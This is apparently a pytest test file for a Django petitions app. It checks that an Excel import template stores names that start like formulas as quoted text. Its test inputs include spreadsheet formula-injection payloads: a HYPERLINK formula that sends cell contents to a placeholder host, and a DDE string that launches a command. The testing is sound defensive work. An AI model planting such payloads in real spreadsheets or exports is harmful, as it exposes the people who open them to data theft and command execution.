"""The downloadable template writes the names staff edit in the admin as text: a name that
starts like a formula is never stored or run as one."""

import io
import zipfile

import openpyxl
import pytest

from petitions.importing.template import build_template
from petitions.models import Department, Topic
from tests.factories import DepartmentFactory, TopicFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def reference_cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    lists = workbook["Danh mục"]
    # The standard library's XML reads a carriage return back as a line feed; lxml (which
    # openpyxl uses when it is installed) keeps it.
    return {
        cell.value.replace("\r", "\n"): cell
        for column in lists.iter_cols(min_row=2)
        for cell in column
        if cell.value is not None
    }


def test_names_that_start_like_a_formula_are_written_as_text():
    for order, payload in enumerate(PAYLOADS):
        TopicFactory(name=f"{payload} (lĩnh vực)", group=Topic.Group.ECONOMY, order=order)
        DepartmentFactory(name=f"{payload} (cơ quan)", kind=Department.Kind.GOVERNMENT)

    data = build_template()

    cells = reference_cells(data)
    for payload in PAYLOADS:
        # XML reads a carriage return back as a line feed; what matters is that it is text.
        for name in (f"{payload} (lĩnh vực)", f"{payload} (cơ quan)"):
            cell = cells[name.replace("\r", "\n")]
            assert cell.data_type == "s", name
            assert cell.quotePrefix, name
    sheets = zipfile.ZipFile(io.BytesIO(data))
    for sheet in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
        assert b"<f>" not in sheets.read(sheet)


def test_a_place_name_that_starts_like_a_formula_is_written_as_text():
    data = build_template(place_name="=1+1")

    date_line = openpyxl.load_workbook(io.BytesIO(data))["Danh sách kiến nghị"]["A2"]
    assert (date_line.data_type, date_line.value) == ("s", "=1+1, ngày …… tháng …… năm ………")
    assert date_line.quotePrefix


def test_ordinary_names_are_written_as_they_are():
    cells = reference_cells(build_template())

    cell = cells["Phòng Kinh tế"]
    assert (cell.data_type, cell.quotePrefix) == ("s", False)
